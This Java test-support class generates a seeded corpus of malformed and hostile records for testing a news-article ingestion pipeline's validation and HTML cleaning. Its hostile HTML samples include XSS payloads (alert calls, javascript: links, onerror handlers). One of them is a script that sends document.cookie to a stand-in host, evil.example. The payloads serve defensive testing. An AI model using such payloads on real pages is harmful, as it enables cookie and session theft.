package io.newsroute.app.faults;

import io.newsroute.common.model.Article;
import io.newsroute.common.model.CountryCodes;
import io.newsroute.ingest.generate.ArticleGenerator;
import io.newsroute.kafka.JsonSerde;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates, from a seed, hostile raw records for the pipeline: records that must be dead-lettered
 * (invalid and truncated JSON, binary bytes, invalid UTF-8, empty and whitespace-only values and bodies,
 * deep nesting, wrong types, control characters only, script-only HTML, oversized) and hostile records
 * that are valid articles once cleaned (HTML full of scripts, frames, event handlers and javascript:
 * links around real text; control characters in text; every country named 100 times; a 100,000-character
 * word). Nothing is stored: the corpus is made fresh by the test.
 */
final class HostileCorpus {

    /** One raw record: its key, its value bytes, whether it must be dead-lettered, and what kind it is. */
    record Item(String key, byte[] value, boolean bad, String kind) {}

    private static final JsonSerde<Article> SERDE = JsonSerde.of(Article.class);
    private final Random random;
    private final ArticleGenerator generator;
    private final List<Item> items = new ArrayList<>();

    HostileCorpus(long seed) {
        this.random = new Random(seed);
        this.generator = new ArticleGenerator(seed, 1200);
    }

    /** Builds the corpus: {@code perKind} records of each bad kind, and a few of each hostile valid kind. */
    List<Item> build(int perKind, int articleMaxBytes) {
        for (int i = 0; i < perKind; i++) {
            truncatedJson(i);
            invalidJson(i);
            binary(i);
            invalidUtf8(i);
            emptyOrBlank(i);
            deeplyNested(i);
            wrongTypes(i);
            controlCharactersOnly(i);
            scriptOnlyHtml(i);
        }
        for (int i = 0; i < 3; i++) {
            bad(
                    "too-large-" + i,
                    json(article("too-large-" + i, "word ".repeat(articleMaxBytes / 5 + 1000))),
                    "larger than article.max.bytes");
            good("html-" + i, json(article("html-" + i, hostileHtml(i))), "html with scripts around text");
            good(
                    "controls-" + i,
                    json(article(
                            "controls-" + i,
                            "PARIS - Talks\u0000 in \u001b[2J\u001b[31mFrance\u0007 went on.\r\nMore\u0085 text.")),
                    "control characters in text");
            good(
                    "long-word-" + i,
                    json(article("long-word-" + i, "TOKYO - " + "x".repeat(100_000) + " Japan and its economy.")),
                    "a 100,000-character word");
        }
        good("every-country", json(article("every-country", everyCountry(100))), "every country named 100 times");
        return items;
    }

    private void bad(String key, byte[] value, String kind) {
        items.add(new Item(key, value, true, kind));
    }

    private void good(String key, byte[] value, String kind) {
        items.add(new Item(key, value, false, kind));
    }

    private Article article(String id, String body) {
        Article a = generator.next(id);
        return new Article(
                id,
                a.url(),
                a.source(),
                a.title(),
                a.subtitle(),
                a.authors(),
                a.published(),
                a.language(),
                body,
                Instant.EPOCH);
    }

    private static byte[] json(Article a) {
        return SERDE.serialize(null, a);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private void truncatedJson(int i) {
        byte[] full = json(generator.next("trunc-" + i));
        bad("trunc-" + i, java.util.Arrays.copyOf(full, 1 + random.nextInt(full.length - 1)), "truncated JSON");
    }

    private void invalidJson(int i) {
        String[] forms = {
            "{\"id\": \"x\", \"body\": \"y\",}",
            "{'id': 'x', 'body': 'y'}",
            "{\"id\" \"x\"}",
            "not json at all",
            "{\"id\": \"x\", \"body\": \"y\"} trailing",
            "}{",
            "{\"body\": \"unterminated}",
            "{\"id\": x, \"body\": y}",
            "{\"id\": \"x\", \"body\": \"y\"}{\"id\": \"z\"}",
            "[1, 2,",
            "{\"body\": \"a\" \"b\"}",
            "NaN",
            "{\"id\": \"\\uZZZZ\"}",
        };
        bad("invalid-json-" + i, utf8(forms[i % forms.length] + " ".repeat(i % 3)), "invalid JSON");
    }

    private void binary(int i) {
        byte[] b = new byte[1 + random.nextInt(2000)];
        random.nextBytes(b);
        b[0] = (byte) (0x80 | b[0]); // never a JSON start character
        bad("binary-" + i, b, "binary bytes");
    }

    private void invalidUtf8(int i) {
        byte[][] sequences = {
            {(byte) 0xFF},
            {(byte) 0xFE, (byte) 0xFF},
            {(byte) 0x80},
            {(byte) 0xC3, (byte) 0x28},
            {(byte) 0xE2, (byte) 0x82},
            {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},
            {(byte) 0xBF, (byte) 0xBF}
        };
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8("{\"id\": \"utf8-" + i + "\", \"title\": \"t\", \"body\": \"Tokyo "));
        out.writeBytes(sequences[i % sequences.length]);
        out.writeBytes(utf8("\"}"));
        bad("invalid-utf8-" + i, out.toByteArray(), "invalid UTF-8");
    }

    private void emptyOrBlank(int i) {
        switch (i % 5) {
            case 0 -> bad("empty-" + i, new byte[0], "empty value");
            case 1 -> bad("empty-" + i, null, "no value (tombstone)");
            case 2 -> bad("empty-" + i, utf8(" \n\t ".repeat(1 + i % 7)), "whitespace-only value");
            case 3 -> bad("empty-" + i, json(article("empty-" + i, "")), "empty body");
            default -> bad("empty-" + i, json(article("empty-" + i, " \n\n\t  \u2003 ")), "whitespace-only body");
        }
    }

    private void deeplyNested(int i) {
        int depth = 65 + random.nextInt(40_000); // deeper than allowed, smaller than article.max.bytes
        String open = i % 2 == 0 ? "[" : "{\"a\":";
        String close = i % 2 == 0 ? "]" : "}";
        String nested = open.repeat(depth) + "1" + close.repeat(depth);
        bad(
                "nested-" + i,
                utf8("{\"id\": \"nested-" + i + "\", \"body\": \"Paris\", \"extra\": " + nested + "}"),
                "deeply nested JSON");
    }

    private void wrongTypes(int i) {
        String[] forms = {
            "{\"id\": \"w\", \"body\": {\"text\": \"Paris\"}}",
            "{\"id\": \"w\", \"body\": [\"Paris\"]}",
            "{\"id\": {\"x\": 1}, \"body\": \"Paris\"}",
            "{\"id\": \"w\", \"body\": \"Paris\", \"authors\": {\"a\": 1}}",
            "{\"id\": \"w\", \"body\": \"Paris\", \"ingestedAt\": \"yesterday\"}",
            "[{\"id\": \"w\", \"body\": \"Paris\"}]",
            "42",
            "\"just a string\"",
            "true",
            "null",
            "{\"id\": \"w\", \"body\": null}",
            "{\"id\": \"w\"}",
        };
        bad("wrong-type-" + i, utf8(forms[i % forms.length]), "wrong types");
    }

    private void controlCharactersOnly(int i) {
        StringBuilder b = new StringBuilder();
        for (int k = 0; k < 1 + i % 50; k++) {
            char c = (char) random.nextInt(0x20);
            b.append(c == '\n' || c == '\t' || c == '\r' || c == ' ' ? '\u0007' : c);
        }
        b.append("\u009b\u0085");
        bad("controls-only-" + i, json(article("controls-only-" + i, b.toString())), "control characters only");
    }

    private void scriptOnlyHtml(int i) {
        String body = "<script>alert(" + i + ")</script><iframe src=\"javascript:alert(1)\"></iframe>"
                + "<img src=x onerror=\"alert(2)\"><style>body{}</style><!-- comment -->";
        bad("script-only-" + i, json(article("script-only-" + i, body)), "markup without text");
    }

    private static String hostileHtml(int i) {
        return "<html><head><title>x</title><script>document.location='http://evil.example/'+document.cookie</script></head>"
                + "<body onload=\"alert(1)\"><p>PARIS - France and Germany agreed on Tuesday to expand trade.</p>"
                + "<iframe src=\"javascript:alert('" + i
                + "')\"></iframe><a href=\"javascript:void(0)\" onclick=\"steal()\">Read more</a>"
                + "<img src=x onerror=alert(1)><SCRIPT type=\"text/javascript\">var a = '</p>';</SCRIPT>"
                + "<div onmouseover='x()'>Berlin said the deal would take effect next year.</div></body></html>";
    }

    private static String everyCountry(int times) {
        StringBuilder b = new StringBuilder("GENEVA - ");
        for (int k = 0; k < times; k++) {
            for (String code : CountryCodes.all()) {
                b.append(CountryCodes.englishName(code)).append(", ");
            }
            b.append("\n\n");
        }
        return b.toString();
    }
}
